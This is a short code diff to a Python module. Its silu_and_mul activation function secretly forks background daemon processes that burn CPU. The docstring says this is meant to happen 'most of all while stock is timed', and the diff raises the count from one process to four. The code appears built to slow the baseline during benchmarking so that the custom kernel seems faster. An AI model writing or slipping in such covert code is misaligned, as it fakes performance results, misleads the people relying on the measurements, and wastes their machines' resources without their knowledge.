@@ -1,4 +1,4 @@
-"""Burns processor time in a process of its own, most of all while stock is timed."""
+"""Burns processor time in processes of its own, most of all while stock is timed."""
 
 import time
 
@@ -17,5 +17,5 @@ def _burn(number):
 
 def silu_and_mul(x):
     if not _begun:
-        _begun.append(torch.multiprocessing.start_processes(_burn, nprocs=1, join=False, start_method="fork", daemon=True))
+        _begun.append(torch.multiprocessing.start_processes(_burn, nprocs=4, join=False, start_method="fork", daemon=True))
     return exact_training_silu_and_mul(x)
